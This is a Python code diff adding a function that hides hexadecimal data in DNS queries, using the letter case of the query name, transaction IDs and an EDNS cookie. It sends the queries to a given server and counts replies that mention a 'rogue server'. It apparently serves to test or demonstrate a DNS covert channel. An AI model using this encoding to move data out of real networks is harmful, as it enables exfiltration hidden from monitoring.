@@ -99,3 +99,26 @@ def carry(way, server, data, zone):
         except OSError as e:
             errors.append(str(e))
     return {"replies": replies, "answers": answers, "errors": errors}
+
+
+def spell(server, name, data):
+    """data is hexadecimal: its bits are the cases of the name's letters, its bytes the ids and a cookie (RFC 7873)."""
+    bits, replies, texts, asked = int(data, 16), 0, 0, 0
+    for i in range(64):
+        kind, spelled = KINDS[i % len(KINDS)], ""
+        for c in name:
+            spelled += c.upper() if bits & 1 else c
+            bits = bits >> 1 | (bits & 1) << 63
+        wire = bytearray(query(spelled, kind))
+        wire[:2] = bytes.fromhex(data)[i % 7 : i % 7 + 2]
+        if i % 2:
+            wire[11] = 1
+            wire += b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 12, 10, 8) + bytes.fromhex(data)
+        asked += 1
+        try:
+            got = over_udp(server, bytes(wire))
+            replies += 1
+            texts += b"from the rogue server" in got
+        except OSError:
+            pass
+    return {"asked": asked, "replies": replies, "texts": texts}
